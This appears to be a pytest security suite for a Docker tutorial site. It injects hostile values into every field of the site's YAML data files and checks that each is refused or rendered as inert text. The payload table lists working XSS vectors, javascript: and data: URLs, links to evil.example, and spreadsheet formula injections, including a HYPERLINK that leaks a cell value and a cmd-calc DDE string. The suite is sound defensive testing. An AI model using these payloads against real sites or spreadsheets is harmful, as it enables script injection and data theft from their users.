"""A pull request that edits only docs/data/ cannot harm a reader.

ONE table of cases: every payload in PAYLOADS goes into every text and link field of every data
file in DATA_FILES (the fields are read from each file's JSON Schema, so a new field is covered
as soon as it exists). Each case ends one of two ways: the loader refuses it with one line
`file:line: entry 1: 'field' ...`, or every rendering of it (page Markdown through the site's
own Markdown extensions, glossary tooltips, flashcard CSV) shows it as inert text. Payloads
marked REFUSE must be refused in every field.

To extend: add a row to PAYLOADS, or a data file to DATA_FILES with its loader and its renderings.
"""

from __future__ import annotations

import copy
import csv
import functools
import io
import json
import os
import re
import shutil

import markdown
import pytest
import yaml
from bs4 import BeautifulSoup

from conftest import ROOT, build_site, html_pages, parsed, run_script
import generate_pages
from site_tools import lab_data, lab_page
from site_tools import renderings
from site_tools import site_data
from site_tools.data_file import DataError

REFUSE, EITHER = "refused", "refused or inert"
PAYLOADS = [  # (what it tries, the value, the outcome required)
    ("stored XSS: img onerror", "<img src=x onerror=alert(1)>", EITHER),
    ("stored XSS: svg onload", "<svg/onload=alert(1)>", EITHER),
    ("stored XSS: script element", "<script>alert(1)</script>", EITHER),
    ("link breakout after a URL", "https://docs.docker.com/get-started/)<img/src/onerror=alert(2)>", EITHER),
    ("Markdown javascript: link", "see [docs](javascript:alert(1))", EITHER),
    ("Markdown javascript: link, no parentheses", "see [docs](javascript:alert%281%29)", EITHER),
    ("Markdown link to another site", "see [docs](https://evil.example/)", EITHER),
    ("javascript: URL alone", "javascript:alert(1)", EITHER),
    ("data: URL", "data:text/html,<script>alert(1)</script>", EITHER),
    ("attr_list attributes", "text { onmouseover=alert(1) }", EITHER),
    ("attr_list after a code span", "`docker ps`{: onclick=alert(1) }", EITHER),
    ("raw HTML entity", "&lt;script&gt;alert(1)&lt;/script&gt;", EITHER),
    ("end-of-block marker", "<!-- end generated:commands -->", REFUSE),
    ("end-of-block marker in code", "`<!-- end generated:comparison-table -->`", REFUSE),
    ("start-of-block marker", "<!-- generated:glossary -->", REFUSE),
    ("spreadsheet formula", '=HYPERLINK("https://evil.example/?"&A1,"click")', EITHER),
    ("spreadsheet formula with +", "+cmd|' /C calc'!A0", EITHER),
    ("spreadsheet formula with @", "@SUM(1+1)*cmd|' /C calc'!A0", EITHER),
    ("table cell split", "a | b", EITHER),
    ("lone backtick", "a ` b", EITHER),
    ("pipe inside a code span", "`a | b`", REFUSE),
    ("zero-width space", "Nat\u200bure", REFUSE),
    ("bidi override", "safe\u202eexe.txt", REFUSE),
    ("bidi isolate", "a\u2066b\u2069", REFUSE),
    ("byte order mark", "\ufeffImage", REFUSE),
    ("control character", "bell\x07", REFUSE),
    ("line separator", "one\u2028two", REFUSE),
    ("heading at a line start", "# Heading", EITHER),
    ("list at a line start", "- item", EITHER),
    ("ordered list at a line start", "1. item", EITHER),
    ("definition at a line start", ":   definition", EITHER),
    ("snippet include", '--8<-- "links.md"', EITHER),
    ("abbreviation breaker", "back\\slash", EITHER),
    ("leading space (code block)", "    indented", REFUSE),
]
DATA_FILES = {  # file in docs/data/ -> (loader, renderings of what it loads)
    "comparison.yml": (site_data.comparison_rows,
                       [renderings.comparison_table, renderings.summary_table]),
    "glossary.yml": (site_data.glossary_terms, [renderings.glossary]),
    "commands.yml": (site_data.commands, [renderings.command_tables, renderings.command_sheet]),
    "lifecycle.yml": (site_data.lifecycle,
                      [renderings.lifecycle_diagram, renderings.lifecycle_states, renderings.lifecycle_transitions]),
    "quiz.yml": (site_data.quiz_questions, [renderings.quiz]),
    "lab.yml": (lab_data.lab, [lab_page.exercises, lab_page.refusals,
                               lambda lab: "\n\n".join(lab_page.embed(lab, e["page"]) for e in lab["embeds"])]),
}
# Fields no page shows: the lab's images and its one Dockerfile (by their top-level key). lab.js
# alone shows them, from the lab's JSON; test_the_lab_writes_hostile_lab_data_as_text runs the lab
# on hostile data to see them written as text. Every other field must be shown as text on a page.
SHOWN_BY_SCRIPT_ONLY = {("lab.yml", "images"), ("lab.yml", "build")}


# The flashcard sheets and the on-screen deck put comparison and glossary text inside `markdown="span"` blocks.
def _flashcard_blocks(sources) -> str:
    return "\n\n".join(render(sources) for render in (renderings.flashcard_sheets, renderings.flashcard_deck))


FLASHCARD_SHEET = {"comparison.yml": lambda rows: _flashcard_blocks((rows, site_data.glossary_terms())),
                   "glossary.yml": lambda terms: _flashcard_blocks((site_data.comparison_rows(), terms))}


def text_fields(file: str) -> dict[tuple, dict]:
    """{path to a text or link field (in a list, of its first entry): the field's schema, $ref
    resolved, for a list of strings its items' schema}, read from the data file's JSON Schema:
    top-level fields, fields of the entries of every list, and a file that is itself a list."""
    schema = json.loads((ROOT / "docs/data" / file.replace(".yml", ".schema.json")).read_text(encoding="utf-8"))

    def resolved(spec: dict) -> dict:
        return {**schema.get("$defs", {}).get(spec.get("$ref", "").rpartition("/")[2], {}), **spec}

    def fields(spec: dict, path: tuple) -> dict[tuple, dict]:
        spec = resolved(spec)
        if spec.get("type") == "array":
            item = resolved(spec.get("items", {}))
            return fields(item, (*path, 0)) if item.get("type") == "object" else ({path: item} if "format" in item else {})
        if spec.get("type") == "object":
            return {found: sub for name, value in spec.get("properties", {}).items()
                    for found, sub in fields(value, (*path, name)).items()}
        return {path: spec} if "format" in spec else {}

    return fields(schema, ())


CASES = [pytest.param(file, path, value, outcome, id=f"{file}:{'.'.join(s for s in path if isinstance(s, str))}:{name}")
         for file in DATA_FILES for path in text_fields(file) for name, value, outcome in PAYLOADS]


@pytest.fixture(scope="module")
def rendered():
    """rendered(markdown) -> (what could run or load, the visible text) of its HTML, made with the
    site's own Markdown extensions as MkDocs configures them. A case leaves most renderings as
    they were (a lab refusal does not change the exercises): each distinct one is converted once."""
    from mkdocs.config import load_config

    config = load_config(str(ROOT / "mkdocs.yml"))
    site_markdown = markdown.Markdown(extensions=config.markdown_extensions, extension_configs=config.mdx_configs)

    @functools.lru_cache(maxsize=64)
    def _rendered(text: str) -> tuple[tuple[str, ...], str]:
        soup = BeautifulSoup(site_markdown.reset().convert(text), "lxml")
        return tuple(active_content(soup)), visible_text(soup)

    return _rendered


def put(data, path: tuple, value: str) -> None:
    """Set the value at `path` in loaded YAML data (for a list of strings, its first item)."""
    *parents, last = path
    for step in parents:
        data = data[step]
    current = data[last] if isinstance(data, list) else data.get(last)
    data[last] = [value, *current[1:]] if isinstance(current, list) else value


def holding(data, path: tuple) -> tuple:
    """`path` with its list index moved to the first entry that has the field (an optional field, such
    as a typed question's `accept`, is missing from the first entries)."""
    if not path or not isinstance(path[0], int) or path[1] in data[path[0]]:
        return path
    return (next(index for index, entry in enumerate(data) if path[1] in entry), *path[1:])


# Files whose entries stand alone (no entry refers to another), each with the key of its list (None:
# the file is the list): a case keeps only the entry it changes, so the self-test's 69 questions or
# the glossary's terms are not parsed and rendered again for each case.
# test_the_entry_a_case_keeps_is_a_whole_file_on_its_own fails if such an entry is not.
STANDALONE_ENTRIES = {"quiz.yml": None, "comparison.yml": "rows", "glossary.yml": "terms", "commands.yml": "commands"}


def alone(file: str, data, path: tuple) -> tuple:
    """(the data with only the entry `path` is in, `path` into it) for a file of STANDALONE_ENTRIES;
    any other file's data and path as they are."""
    if file not in STANDALONE_ENTRIES:
        return data, path
    key = STANDALONE_ENTRIES[file]
    if key is None:
        return [data[path[0]]], (0, *path[1:])
    if path[0] == key:
        return {**data, key: [data[key][path[1]]]}, (key, 0, *path[2:])
    return data, path


@functools.cache
def original(file: str):
    """The data file as it is in docs/data/ (parsed once; callers change a deep copy)."""
    return yaml.load((ROOT / "docs/data" / file).read_text(encoding="utf-8"), Loader=yaml.CSafeLoader)


NON_ASCII = re.compile(r"[^\x00-\x7f]")


def yaml_escape(character: re.Match) -> str:
    """A character outside ASCII as a YAML double-quoted escape (\\U beyond U+FFFF, where JSON
    would write two surrogates, which libyaml refuses)."""
    code = ord(character[0])
    return f"\\u{code:04x}" if code <= 0xFFFF else f"\\U{code:08x}"


def with_value(tmp_path, file: str, path: tuple, value: str) -> tuple:
    """(a copy of the data file with `value` at `path`, the path the value was written at).

    Written as JSON, one value a line, which YAML reads as it is, each character outside ASCII
    escaped (yaml_escape), as yaml.dump with allow_unicode=False escaped them, in a sixth of the
    time (PyYAML represents in Python): the loader's checks are on the values."""
    data = copy.deepcopy(original(file))
    path = holding(data, path)
    data, path = alone(file, data, path)
    put(data, path, value)
    written = tmp_path / file
    written.write_text(NON_ASCII.sub(yaml_escape, json.dumps(data, indent=1, ensure_ascii=False)), encoding="utf-8")
    return written, path


def active_content(soup: BeautifulSoup) -> list[str]:
    """Everything in parsed HTML that could run or load: event handlers, scripts, foreign URLs."""
    found = [f"<{tag.name}>" for tag in soup.find_all(["script", "img", "svg", "iframe", "object", "embed",
                                                       "style", "form", "input", "base", "meta", "link"])]
    for tag in soup.find_all(True):
        found += [f"<{tag.name} {name}=...>" for name in tag.attrs if name.lower().startswith("on")]
        for name in ("href", "src", "action", "formaction", "xlink:href"):
            url = str(tag.get(name, ""))
            if url and not re.match(r"^(https://|#|\.\./|[\w./-]+(#[\w-]+)?$)", url):  # a page of the site, or its anchor
                found.append(f"<{tag.name} {name}={url}>")
    return found


def visible_text(soup: BeautifulSoup) -> str:
    return " ".join(soup.get_text().split())


@pytest.mark.parametrize("file, where, value, outcome", CASES)
def test_hostile_value_is_refused_in_one_line_or_shown_as_inert_text(tmp_path, rendered, file, where, value, outcome):
    loader, renderers = DATA_FILES[file]
    field = where[-1]
    path, written_at = with_value(tmp_path, file, where, value)
    try:
        records = loader(path)
    except DataError as error:
        lines = str(error).splitlines()
        # A record of the file's own list, or of a list under one of its keys, is named by its number;
        # deeper (lab.yml's build: steps:) the line alone says where.
        index = next((step for step in written_at[:2] if isinstance(step, int)), None)
        entry = f"entry {index + 1}: " if index is not None else ""
        assert len(lines) == 1 and re.match(rf"^{re.escape(str(path))}:\d+: {entry}'{field}' ", lines[0]), str(error)
        return
    assert outcome != REFUSE, f"{file}: {field}: {value!r} was accepted; it must be refused"
    try:
        pages = [renderer(records) for renderer in [*renderers, *filter(None, [FLASHCARD_SHEET.get(file)])]]
        if file == "glossary.yml":
            pages.append(f"A container runs an image.\n\n{renderings.abbreviations(records)}")
    except DataError as error:  # refused at rendering (e.g. a term that cannot be a tooltip): still one line
        assert len(str(error).splitlines()) == 1, str(error)
        return
    shown = ""
    for page in pages:
        assert not generate_pages.MARKER.search(page), f"{file}: {field}: {value!r} adds a block marker"
        active, text = rendered(page)
        assert active == (), f"{file}: {field}: {value!r} renders as {list(active)}"
        shown += text
    if field != "source" and (file, where[0]) not in SHOWN_BY_SCRIPT_ONLY:
        as_text = {" ".join(text.split()) for text in (renderings.plain(value), value)}  # a diagram's title keeps its backticks
        assert any(text in shown for text in as_text), f"{file}: {field}: {value!r} is not shown as text"
    if file == "comparison.yml":
        cells = [cell for row in csv.reader(io.StringIO(renderings.flashcards_csv(records))) for cell in row]
        assert not [c for c in cells if c.lstrip(" ").startswith(renderings.FORMULA_START)], cells


def test_every_data_file_is_in_the_table():
    """A new data file with a schema in docs/data/ must join DATA_FILES, with its loader and renderings."""
    files = {path.with_suffix(".yml").name.replace(".schema", "") for path in (ROOT / "docs/data").glob("*.schema.json")}
    assert files == set(DATA_FILES), f"add {sorted(files - set(DATA_FILES))} to DATA_FILES in this test"


@pytest.mark.parametrize("file", sorted(STANDALONE_ENTRIES))
def test_the_entry_a_case_keeps_is_a_whole_file_on_its_own(tmp_path, file):
    """The cases of a STANDALONE_ENTRIES file keep only the entry they change (the first with the
    field); if that entry alone were refused or not rendered (a rule about the other entries, such
    as the summary's rows), every case would end at that refusal instead of at its own value."""
    loader, renderers = DATA_FILES[file]
    width = 1 if STANDALONE_ENTRIES[file] is None else 2  # (index,) or (key, index)
    kept = {holding(original(file), path)[:width] for path in text_fields(file)}
    for entry in sorted(kept, key=str):
        data, _ = alone(file, copy.deepcopy(original(file)), entry)
        written = tmp_path / file
        written.write_text(json.dumps(data), encoding="utf-8")
        try:
            records = loader(written)
            [renderer(records) for renderer in renderers]
        except DataError as error:
            pytest.fail(f"{file}: the entry its cases keep at {entry} is refused on its own ({error}); keep another "
                        "entry for the hostile cases (alone() in this file), or take the file out of STANDALONE_ENTRIES")


def handlers_and_script_urls(soup) -> list[str]:
    """Inline event handler attributes and javascript: URLs anywhere in a parsed page."""
    found = []
    for tag in soup.find_all(True):
        found += [f"<{tag.name} {name}=...>" for name in tag.attrs if name.lower().startswith("on")]
        found += [f"<{tag.name} {name}={value}>" for name, value in tag.attrs.items()
                  if isinstance(value, str) and re.match(r"^\s*javascript:", value, re.IGNORECASE)]
    return found


def test_built_site_has_no_inline_event_handler_or_javascript_url(built_site):
    problems = [f"{page.relative_to(built_site.site)}: {problem}" for page in html_pages(built_site.site)
                for problem in handlers_and_script_urls(parsed(page))]
    assert problems == []


# The accepted payloads, one per text field, for a whole hostile site built and browsed.
HOSTILE_TEXT = "<img src=x onerror=alert(1)> { onmouseover=alert(2) } [x](javascript:alert(3)) <svg/onload=alert(4)>"
# A flashcard question must ask about {side} (site_data.comparison_rows): there the payload sits inside one.
HOSTILE_FORM = {("comparison.yml", "question"): "{} {{side}}?"}


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    """The real site built from data files whose every text field of the first entry is hostile."""
    repo = tmp_path_factory.mktemp("hostile")
    for part in ("scripts", "docs", "includes", "overrides"):
        shutil.copytree(ROOT / part, repo / part, ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("mkdocs.yml", "package.json"):
        shutil.copy(ROOT / name, repo / name)
    shutil.copytree(ROOT / "node_modules/mermaid", repo / "node_modules/mermaid", copy_function=os.link)
    for file in DATA_FILES:
        path = repo / "docs/data" / file
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        for where, spec in text_fields(file).items():
            *parents, field = where
            parent = functools.reduce(lambda node, step: node[step], parents, data)
            value = HOSTILE_FORM.get((file, field), "{}").format(f"{field} {HOSTILE_TEXT}")
            free = "pattern" not in spec and "enum" not in spec and len(value) <= spec.get("maxLength", len(value))
            if spec.get("format") in ("text", "linked-text") and free and field in parent:  # the table above has the rest
                put(data, where, value)
        path.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
    generated = run_script(repo, "generate_pages.py")
    assert generated.returncode == 0, generated.stderr
    built = build_site(repo / "site", config=repo / "mkdocs.yml")
    assert built.returncode == 0, built.stderr
    return repo / "site"


@pytest.fixture(scope="module")
def hostile_tab(chromium, hostile_site):
    """(page, dialogs, url): one tab on the hostile site, served locally (no address but 127.0.0.1 reachable),
    every dialog a page opens recorded in `dialogs` and dismissed."""
    from site_tools import local_server

    dialogs: list[str] = []
    with local_server.serve(hostile_site) as url:
        context = chromium.new_context(service_workers="block")
        page = context.new_page()
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        yield page, dialogs, url
        context.close()


def test_hostile_data_builds_into_pages_with_no_handler_and_the_payload_as_text(hostile_site):
    for page in html_pages(hostile_site):
        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "lxml")
        assert handlers_and_script_urls(soup) == [], page.relative_to(hostile_site)
        assert soup.select('img[src="x"], svg[onload]') == [], page.relative_to(hostile_site)
    for page, field in (("revise/comparison", "image"), ("revise/flashcards", "image"), ("revise/self-test", "question"),
                        ("revise/self-test", "choices"), ("revise/flashcards", "question"), ("beyond/lab", "explanation"),
                        ("basics/relationship", "intro")):
        shown = visible_text(BeautifulSoup((hostile_site / page / "index.html").read_text(encoding="utf-8"), "lxml"))
        assert f"{field} {HOSTILE_TEXT}" in shown, f"{page}: the hostile '{field}' is not shown as text"


# What a pointer over each table cell and definition would fire (an injected onmouseover would run
# here), sent to every one at once rather than moving the mouse over a few.
POINT_AT_EVERY_CELL = """() => { for (const cell of document.querySelectorAll('article td, article dd'))
    for (const type of ['mouseover', 'mouseenter', 'mousemove']) cell.dispatchEvent(new MouseEvent(type, {bubbles: true})); }"""


@pytest.mark.parametrize("path", ["revise/comparison/", "revise/glossary/", "beyond/cheat-sheet/", "beyond/lifecycle/",
                                  "revise/self-test/", "revise/flashcards/", "beyond/lab/", "", "print_page/"])
def test_hostile_data_raises_no_dialog_in_chromium(hostile_tab, path):
    page, dialogs, url = hostile_tab
    dialogs.clear()
    page.goto(url + path, wait_until="networkidle")
    page.evaluate(POINT_AT_EVERY_CELL)
    assert dialogs == [], f"/{path} raised dialogs {dialogs}"


# Commands that make the lab show the hostile fields no page shows: a layer's `made_by` (the picture,
# after a pull), what the built image `prints` (its run), and a refusal's `message` (rm of a running container).
LAB_SESSION = ("pull alpine", "build -t app .", "run app", "run -d --name web nginx", "rm web")


def test_the_lab_writes_hostile_lab_data_as_text(hostile_tab):
    page, dialogs, url = hostile_tab
    dialogs.clear()
    page.goto(url + "beyond/lab/")
    page.wait_for_selector(".lab-app--live")
    for line in LAB_SESSION:
        page.fill("#lab-command", line)
        page.press("#lab-command", "Enter")
    shown = " ".join(page.locator(".lab-app").inner_text().split())
    injected = page.locator(".lab-app img, .lab-app svg[onload], .lab-app [onmouseover]").count()
    missing = [field for field in ("made_by", "prints", "message") if f"{field} {HOSTILE_TEXT}" not in shown]
    assert dialogs == [] and injected == 0 and missing == [], (
        f"the lab with hostile data: dialogs {dialogs}, {injected} injected elements, fields not shown as text: {missing}")
